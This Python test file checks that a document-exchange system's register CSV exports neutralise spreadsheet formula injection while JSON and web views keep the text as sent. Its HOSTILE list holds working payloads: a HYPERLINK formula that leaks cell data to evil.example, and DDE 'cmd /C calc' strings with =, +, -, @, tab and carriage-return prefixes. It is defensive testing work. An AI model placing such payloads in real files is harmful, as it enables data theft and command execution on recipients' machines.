"""CSV formula injection: a sender's text that a spreadsheet would run lands neutralised in every CSV.

A hostile sender writes ``=HYPERLINK(...)`` as its TypeName, or a Subject starting with ``+``, ``-``,
``@``, a tab or a carriage return. The recipient's incoming register (API, web and CLI downloads)
must carry such cells with a leading apostrophe (OWASP's rule), while the JSON register and the web
page keep the text exactly as it was sent.
"""

from __future__ import annotations

import csv
import dataclasses
import io
from collections.abc import AsyncIterator
from pathlib import Path

import aiohttp
import pytest

from axis.agency.client import sign_message
from axis.archive.calendar import vn_date
from envelope.codes import StatusCode
from envelope.model import DocumentType
from signing.keys import DevelopmentCA, IssuedIdentity
from tests.archive.conftest import Cli
from tests.databases import DatabaseTemplate
from tests.web.conftest import B, Browser, World, start_world

#: (TypeName, Subject) as a hostile sender writes them; the register cell is "TypeName: Subject", or the
#: Subject alone when the TypeName is empty.
HOSTILE = [
    ('=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "Về việc cập nhật dữ liệu"),
    ("", "+cmd|' /C calc'!A0"),
    ("", "-2+3+cmd|' /C calc'!A0"),
    ("", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("", "\t=1+1 sau dấu tab"),
    ("", "\r=1+1 sau dấu xuống dòng"),
]


def _cell(type_name: str, subject: str) -> str:
    return f"{type_name}: {subject}" if type_name else subject


@pytest.fixture
async def world(tmp_path: Path, db_template: DatabaseTemplate, test_ca: DevelopmentCA,
                identities: dict[str, IssuedIdentity]) -> AsyncIterator[World]:
    async for w in start_world(tmp_path, db_template, test_ca, identities):
        yield w


async def _send_hostile(world: World) -> list[str]:
    """A sends each hostile document to B over the API and B receipts it (so it enters B's incoming register)."""
    cells = []
    async with world.a.client() as sender, world.b.client() as recipient:
        for type_name, subject in HOSTILE:
            doc, _ = world.a.document([world.b], subject=subject)
            doc = dataclasses.replace(doc, document_type=DocumentType(type=1, type_detail=0, type_name=type_name))
            sent = await sender.submit(sign_message(doc, world.a.identity.key, world.a.identity.certificate))
            assert sent["recipients"] == [{"organ_id": B, "state": "queued"}]
            await recipient.post_status(world.b.status(doc, StatusCode.ARRIVED, "Đã nhận"))
            cells.append(_cell(type_name, subject))
    return cells


def _summaries(text: str) -> list[str]:
    return [row["type_and_summary"] for row in csv.DictReader(io.StringIO(text, newline=""))]


async def test_hostile_text_is_neutralised_in_every_register_csv_and_kept_verbatim_elsewhere(world: World) -> None:
    cells = await _send_hostile(world)
    year = vn_date(world.axis.ctx.clock()).year
    expected = ["'" + c for c in cells]

    # The agency API's CSV download.
    async with aiohttp.ClientSession() as http:
        url = f"{world.url}/api/v1/registers/incoming"
        headers = {"Authorization": f"Bearer {world.b.token}"}
        async with http.get(url, params={"year": str(year), "format": "csv"}, headers=headers) as r:
            assert r.status == 200 and r.content_type == "text/csv"
            api_csv = await r.text()
        async with http.get(url, params={"year": str(year)}, headers=headers) as r:
            as_json = await r.json()
    assert _summaries(api_csv) == expected
    for line in api_csv.split("\r\n")[1:]:
        assert not line.startswith(("=", "+", "-", "@", "\t", "\r")), line
    # The JSON keeps what the sender wrote.
    assert [i["type_and_summary"] for i in as_json["items"]] == cells

    # The web UI's CSV download, and its page (text as sent, escaped by the template).
    browser = Browser(world.url)
    try:
        assert (await browser.login("vanthu.h29"))[0] == 303
        status, body, r = await browser.get_bytes(f"/registers/incoming.csv?year={year}")
        assert status == 200 and r.content_type == "text/csv"
        assert _summaries(body.decode()) == expected
        status, html, _ = await browser.get(f"/registers/incoming?year={year}")
        assert status == 200
        assert "+cmd|&#39; /C calc&#39;!A0" in html and "&#39;+cmd" not in html
    finally:
        await browser.close()

    # The command line writes the same CSV.
    result = await Cli(world.axis)("register", "incoming", "--agency", B, "--year", year, "--format", "csv")
    assert result.exit_code == 0, result.output
    assert _summaries(result.output) == expected


def test_numbers_and_plain_text_are_left_alone() -> None:
    from axis.archive.csv_export import csv_text

    text = csv_text(["a", "b", "c"], [{"a": -3, "b": "Công văn: Về việc -", "c": 1.5}])
    assert text == "a,b,c\r\n-3,Công văn: Về việc -,1.5\r\n"
